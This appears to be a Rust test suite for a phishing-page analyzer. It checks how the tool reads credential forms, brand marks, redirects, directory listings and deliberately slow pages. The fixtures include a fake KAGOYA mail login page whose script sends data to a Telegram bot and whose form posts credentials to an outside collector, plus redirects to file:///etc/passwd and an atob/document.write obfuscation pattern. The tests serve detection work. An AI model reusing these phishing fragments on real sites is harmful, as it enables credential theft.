//! Pages as kits and honest sites make them, and pages that are made to be slow.

use std::time::Instant;

use super::*;
use crate::facts::visit::{Asks, Place};

fn at(url: &str, html: &str) -> Examined {
    let url = Url::parse(url).unwrap();
    examine(&Fetched { url: &url, media: Some("text/html; charset=utf-8"), body: html.as_bytes(), cut: false })
}

#[test]
fn a_false_login_page_is_told_with_all_that_it_is() {
    let found = at(
        "https://kagoya-support.front.example/wp-includes/x/login.php?e=1",
        "<!DOCTYPE html><!-- saved from url=(0032)https://activemail.example.jp/in -->\
         <html lang=zh-CN><head><title> Active! mail \n ログイン | KAGOYA </title>\
         <link rel='shortcut icon' href='img/fav.ico'><link rel=stylesheet href='https://cdn.example.net/a.css'>\
         <script src='https://challenges.cloudflare.com/turnstile/v0/api.js'></script>\
         <script>$.post('next.php', d); fetch(\"https://api.telegram.org/bot123:AA/sendMessage\")</script></head>\
         <body><img src='/assets/kagoya_logo.png' alt=''><p>メールアドレスとパスワードを入力してください</p>\
         <div style='display:none'>hidden words</div>\
         <form method=post action='../send.php'><input type=hidden name=csrf>\
         <input name=user placeholder='メールアドレス'><input type=PassWord name=pass>\
         <button formaction='https://collect.example.org/c'>ログイン</button></form>\
         <a href='https://www.kagoya.jp/help'>ヘルプ</a><a href='https://www.kagoya.jp/'>戻る</a><a href='#'>x</a>\
         <p>Copyright © 2026 KAGOYA JAPAN Inc.</p>",
    );
    let shown = &found.shown;
    assert_eq!(shown.title, "Active! mail ログイン | KAGOYA");
    assert_eq!((shown.language.as_deref(), shown.letters.as_deref()), (Some("zh-CN"), Some("ja")));
    assert_eq!(shown.charset.as_deref(), Some("UTF-8"));
    assert_eq!(shown.copied.as_deref(), Some("https://activemail.example.jp/in"));
    assert_eq!(shown.gate.as_deref(), Some("Cloudflare Turnstile"));
    assert_eq!(shown.forms.len(), 2);
    let form = &shown.forms[1];
    assert_eq!(form.action, "https://kagoya-support.front.example/wp-includes/send.php");
    assert_eq!((form.method.as_str(), form.passwords), ("POST", 1));
    assert_eq!(form.fields, ["csrf", "user", "pass"]);
    assert_eq!(form.asks, [Asks::User, Asks::Password]);
    assert_eq!(shown.forms[0].action, "https://collect.example.org/c");
    assert_eq!(shown.hosts, ["cdn.example.net", "challenges.cloudflare.com", "collect.example.org"]);
    assert_eq!(shown.links, ["www.kagoya.jp"]);
    assert_eq!(shown.brands, ["kagoya"]);
    let places: Vec<Place> = shown.marks.iter().map(|mark| mark.place).collect();
    assert!(places.starts_with(&[Place::Title, Place::Logo, Place::Copyright, Place::Host]), "{:?}", shown.marks);
    assert_eq!(shown.kit, ["/wp-includes/", "send.php", "next.php", "api.telegram.org/bot"]);
    assert_eq!((shown.scripts, shown.hidden), (2, 1));
    assert!(shown.text.starts_with("メールアドレスと") && !shown.text.contains("hidden words"), "{}", shown.text);
    assert_eq!(
        found.icon.as_ref().map(Url::as_str),
        Some("https://kagoya-support.front.example/wp-includes/x/img/fav.ico")
    );
    assert_eq!(found.onward, None);
    assert!(shown.wants_secret() && !shown.cut && shown.folder.is_none() && shown.draws.is_none());
}

#[test]
fn an_honest_page_leaves_no_marks_of_a_kit() {
    let found = at(
        "https://blog.example.com/wp-content/post/contact",
        "<html lang=en><title>Contact us</title><form action=send.php method=post><input name=email type=email>\
         <textarea name=message></textarea></form><script src=https://www.google-analytics.example/a.js></script>\
         <p>We write about PayPal and Netflix.",
    );
    assert_eq!(found.shown.kit, [""; 0]);
    assert!(!found.shown.wants_secret());
    assert!(found.shown.marks.iter().all(|mark| mark.place == Place::Text));
    assert_eq!(found.icon.unwrap().as_str(), "https://blog.example.com/favicon.ico");
}

#[test]
fn the_base_of_a_page_completes_its_addresses() {
    let found = at(
        "https://a.example/x/y",
        "<base href='https://b.example/z/'><form action=go></form><a href=t></a><link rel=icon href=/f.ico>\
         <script>location='next'</script>",
    );
    assert_eq!(found.shown.forms[0].action, "https://b.example/z/go");
    assert_eq!(found.shown.links, ["b.example"]);
    assert_eq!(found.onward.unwrap().to, "https://b.example/z/next");
    // The picture on another host is not asked for.
    assert_eq!(found.icon.unwrap().as_str(), "https://a.example/favicon.ico");
}

#[test]
fn a_picture_in_the_page_itself_has_its_number_at_once() {
    let found = at("https://a.example/", "<link rel=icon href='data:image/png;base64,YQ=='>");
    assert_eq!((found.shown.favicon, found.icon), (Some(-316_242_180), None));
}

#[test]
fn a_page_leads_on_where_it_says_so() {
    for (html, to, how) in [
        ("<meta http-equiv=refresh content='0;url=/next'>", "https://a.example/next", "meta refresh"),
        (
            "<META HTTP-EQUIV=Refresh CONTENT=\"3; URL='https://b.example/x?a=1&amp;b=2'\">",
            "https://b.example/x?a=1&b=2",
            "meta refresh",
        ),
        (
            "<noscript><meta http-equiv=refresh content='1;https://b.example/'></noscript>",
            "https://b.example/",
            "meta refresh",
        ),
        ("<meta http-equiv=refresh content='0;url=http://127.0.0.1/'>", "http://127.0.0.1/", "meta refresh"),
        ("<meta http-equiv=refresh content='0;url=file:///etc/passwd'>", "file:///etc/passwd", "meta refresh"),
        ("<meta http-equiv=refresh content='0;url=http://[zz'>", "http://[zz", "meta refresh"),
        ("<body onload=\"location='/x'\">", "https://a.example/x", "script"),
        (
            "<script>setTimeout(function(){window.location.href='//b.example/y'},9)</script>",
            "https://b.example/y",
            "script",
        ),
    ] {
        let onward = at("https://a.example/", html).onward.unwrap_or_else(|| panic!("{html}"));
        assert_eq!((onward.to.as_str(), onward.how), (to, how), "{html}");
    }
    for html in [
        "<meta http-equiv=refresh content=30>",
        "<meta http-equiv=refresh content='30;url=/'>",
        "<script>location='/#top'</script>",
        "<script type=application/json>{\"a\":\"location='/x'\"}</script>",
        "<button onclick=\"location='/x'\">go</button>",
        "<!-- <meta http-equiv=refresh content='0;url=/x'> -->",
    ] {
        assert_eq!(at("https://a.example/", html).onward, None, "{html}");
    }
    // A function on a page that has something to show may never be called.
    let full = format!("<p>{}</p><script>function out(){{location='/out'}}</script>", "words ".repeat(60));
    assert_eq!(at("https://a.example/", &full).onward, None);
}

#[test]
fn refreshes_are_read_in_every_spelling() {
    for (value, to) in [
        ("0; url=http://10.0.0.1/", Some("http://10.0.0.1/")),
        ("5;URL = \"/a b\" x", Some("/a b")),
        ("0,/x", Some("/x")),
        ("1.5; /x", Some("/x")),
        (";url=x", Some("x")),
        ("0; urlx", Some("urlx")),
        ("5", None),
        ("5;", None),
        ("", None),
        ("0;url='", None),
        ("x;url=y", None),
    ] {
        assert_eq!(refresh(value), to, "{value}");
    }
}

#[test]
fn pages_inside_the_page_and_fields_outside_of_forms_count() {
    let found = at(
        "https://a.example/",
        "<iframe srcdoc=\"<form action='https://b.example/'><input type=password></form>\"></iframe>\
         <input type=password name=p><input name=cvv>",
    );
    let forms: Vec<(&str, u32)> = found.shown.forms.iter().map(|form| (form.action.as_str(), form.passwords)).collect();
    assert_eq!(forms, [("https://b.example/", 1), ("", 1)]);
    assert_eq!(found.shown.forms[1].asks, [Asks::Password, Asks::CardCode]);
    let apart = at("https://a.example/", "<form id=f action=/go></form><input form=f type=password>");
    assert_eq!((apart.shown.forms.len(), apart.shown.forms[0].passwords), (1, 1));
}

#[test]
fn folders_files_and_texts_are_told_from_pages() {
    let listed = at(
        "http://hacked.example/office/",
        "<html><head><title>Index of /office</title></head><body><h1>Index of /office</h1><a href=\"/\">Parent Directory</a>\
         <a href=\"Office365.zip\">Office365.zip</a><a href=\"next.php\">next.php</a></body></html>",
    );
    assert_eq!(listed.shown.folder.as_deref(), Some(&["Office365.zip".to_owned(), "next.php".to_owned()][..]));
    assert_eq!(listed.shown.kit, ["Office365.zip"]);

    let url = Url::parse("https://a.example/x").unwrap();
    let look = |media: Option<&str>, body: &[u8]| examine(&Fetched { url: &url, media, body, cut: true }).shown;
    for (media, body, file) in [
        (Some("application/zip"), &b"PK\x03\x04rest"[..], Some("application/zip")),
        (Some("text/plain"), b"PK\x03\x04rest", Some("application/zip")),
        (None, b"MZ\x90\0\x03\0\0\0", Some("application/vnd.microsoft.portable-executable")),
        (Some("application/pdf"), b"%PDF-1.7", Some("application/pdf")),
        (Some("image/png"), b"nothing", Some("image/png")),
        (None, b"a\0b", Some("application/octet-stream")),
        (Some("text/plain; charset=utf-8"), b"hello <html>", None),
        (Some("application/json"), b"{}", None),
        (None, b"<!doctype html><title>t</title>", None),
    ] {
        let shown = look(media, body);
        assert_eq!(shown.file.as_deref(), file, "{media:?} {body:?}");
        assert!(shown.cut && shown.sha256.len() == 64 && shown.bytes as usize == body.len());
    }
    assert_eq!(look(None, b"<!doctype html><title>t</title>").title, "t");
    assert_eq!(look(Some("text/plain"), b"hello <html>").text, "hello <html>");
    assert_eq!(look(None, b"").text, "");
}

#[test]
fn scripts_that_write_the_page_are_told() {
    let encoded = "QUJD".repeat(300);
    let found = at("https://a.example/", &format!("<script>document.write(atob('{encoded}'))</script>"));
    assert_eq!(found.shown.draws.as_deref(), Some("atob( + document.write"));
    assert_eq!(at("https://a.example/", "<script>document.write(1)</script>").shown.draws, None);
}

#[test]
fn a_limit_that_is_hit_is_told() {
    for (piece, times) in [
        ("<form></form>", 41),
        ("<input name=a>", 61),
        ("<a href=/x>", 4_001),
        ("<img src=x>", 301),
        ("<iframe srcdoc=x></iframe>", 21),
        ("<script>'a';</script>", 5_001),
    ] {
        assert!(at("https://a.example/", &piece.repeat(times)).shown.left_out, "{piece}");
        assert!(!at("https://a.example/", &piece.repeat(20)).shown.left_out, "{piece}");
    }
}

#[test]
fn control_characters_are_kept_as_they_are_and_made_visible_by_whoever_shows_them() {
    let found = at("https://a.example/", "<title>\u{1b}]0;x\u{7}\u{202e}</title><div>");
    assert_eq!(found.shown.title, "\u{1b}]0;x\u{7}\u{202e}");
}

/// What is quadratic takes minutes here, on a busy machine what is linear a second.
#[test]
fn pages_that_are_made_to_be_slow_stay_in_budget() {
    for piece in [
        "<div>",
        "</div>",
        "<form><input type=password name=a>",
        "<input name=",
        "<a href='https://a",
        "<a href=https://a.example/>",
        "<img src=x alt=amazon>",
        "<title>",
        "<script>location='",
        "<script>location='/a';</script>",
        "<style>{",
        "<!-- saved from url=(",
        "<meta http-equiv=refresh content='0;url=",
        "<iframe srcdoc='<iframe srcdoc=",
        "amazon paypal ",
        "© Amazon\n",
        "<base href=https://a.example/>",
        "<link rel=icon href=data:image/png;base64,AAAA>",
        "&amp;amp;",
        "<svg><title>",
    ] {
        let page = piece.repeat(PAGE_BYTES / 4 / piece.len());
        let before = Instant::now();
        at("https://a.example/", &page);
        assert!(before.elapsed().as_secs() < 30, "{piece} takes {:?}", before.elapsed());
    }
    let attribute = format!("<form action='{}'><input type=password>", "a".repeat(10 * 1024 * 1024));
    let found = at("https://a.example/", &attribute);
    assert!(found.shown.cut);
    let deep = format!("{}<form><input type=password></form>text", "<div>".repeat(100_000));
    let found = at("https://a.example/", &deep);
    assert!(found.shown.wants_secret() && found.shown.text == "text");
}
